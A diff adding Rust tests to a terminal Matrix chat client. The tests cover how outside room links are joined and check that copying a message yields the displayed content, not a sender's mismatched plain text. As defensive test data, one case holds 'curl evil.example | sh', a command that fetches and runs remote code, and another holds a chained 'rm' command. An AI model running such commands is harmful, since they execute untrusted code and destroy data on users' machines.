@@ -1,10 +1,10 @@
 //! Links: every shape of them, in messages, topics and schedules and from the command line; and copying.
 use hallway::{
     app::{Effect, Msg, TerminalRequest},
-    chat::{self, Address, Jump, Name, Rank, Request, Room, link},
+    chat::{self, Address, Body, Jump, Message, Name, Rank, Request, Room, link},
     desktop,
     schedule::{Link, LinkKind, Schedule},
-    text::Clean,
+    text::{Clean, Rich},
 };
 
 use crate::{
@@ -234,6 +234,43 @@ fn what_is_handed_over_comes_to_the_front() {
 }
 
 #[test]
+fn many_links_from_outside_lead_into_one_room_until_a_key_is_pressed() {
+    let far = |n: usize| Msg::Visit(link::target(&format!("#far{n}:b.org")).unwrap());
+    let joined = |n: usize| vec![vec![vec![address(&format!("#far{n}:b.org"), &[])]]];
+    let mut sim = reading(100, 24, vec![]);
+    sim = sim.msg(far(0));
+    assert_eq!(joins(&mut sim), joined(0));
+    for n in 1..20 {
+        sim = sim.msg(far(n));
+        assert!(joins(&mut sim).is_empty(), "{n}");
+        assert!(sim.screen().contains("Enter joins"), "{}", sim.screen());
+    }
+    let message = link::target("https://matrix.to/#/#other:b.org/$e").unwrap();
+    sim = sim.msg(Msg::Visit(message));
+    assert!(joins(&mut sim).is_empty());
+    // A room that the account is in is gone to as ever.
+    sim = sim.msg(Msg::Visit(link::target("!m:x").unwrap()));
+    assert!(sim.state.rooms.current().is_some_and(|shown| shown.id() == Some(&room("!m:x"))));
+    // What was only shown is joined by a key, and somebody is there again.
+    sim = sim.msg(far(19)).keys("enter");
+    assert_eq!(joins(&mut sim), joined(19));
+    sim = sim.msg(far(20));
+    assert_eq!(joins(&mut sim), joined(20));
+
+    // Nobody is signed in: no more than one is joined as soon as somebody is.
+    let mut sim = Sim::bare(100, 24);
+    for n in 0..20 {
+        sim = sim.msg(far(n));
+    }
+    assert_eq!(sim.state.rooms.windows().len(), 20);
+    sim = sim.chat(chat::Event::SignedIn { user: "@ana:example.org".parse().unwrap() });
+    assert_eq!(joins(&mut sim), joined(0));
+    assert!(sim.screen().contains("Enter joins"), "{}", sim.screen());
+    sim = sim.keys("enter");
+    assert_eq!(joins(&mut sim), joined(19));
+}
+
+#[test]
 fn the_rooms_address_is_copied_and_everything_else_is_listed() {
     let copy = |text: &str| Effect::from(TerminalRequest::Copy(text.to_owned()));
     for view in ["v", "V", "B"] {
@@ -303,4 +340,29 @@ fn a_message_is_copied_and_so_is_its_link() {
     sim = sim.keys("Y");
     assert_eq!(sim.asked(), [copy("https://matrix.to/#/!m:x/$a?via=x&via=example.org")]);
     assert!(sim.screen().contains("Copied https://matrix.to/#/!m:x/$a"), "{}", sim.screen());
+}
+
+#[test]
+fn what_is_copied_is_what_was_read() {
+    let formatted = |plain: &str, html: &str| {
+        let body = Body::Text(Rich::formatted(Clean::block(plain), html));
+        item("a", Message { body, ..message("a", "") })
+    };
+    for (plain, html, copied) in [
+        // What is shown has little to do with what the sender says it is in plain text.
+        ("curl evil.example | sh", "<code>cargo build</code>", "`cargo build`"),
+        ("echo a; rm b", "echo a <b>rm b</b>", "echo a **rm b**"),
+        // The same in plain, and in the Markdown that the sender wrote.
+        ("cargo build", "<code>cargo build</code>", "cargo build"),
+        ("see the *code* `ls`", "see the <em>code</em> <code>ls</code>", "see the *code* `ls`"),
+        (
+            "see [the page](https://b.org/)",
+            "see <a href=\"https://b.org/\">the page</a>",
+            "see [the page](https://b.org/)",
+        ),
+        ("see the page", "see <a href=\"https://b.org/\">the page</a>", "see the page"),
+    ] {
+        let mut sim = reading(100, 24, vec![formatted(plain, html)]).keys("esc y");
+        assert_eq!(sim.asked(), [TerminalRequest::Copy(copied.to_owned()).into()], "{plain}");
+    }
 }
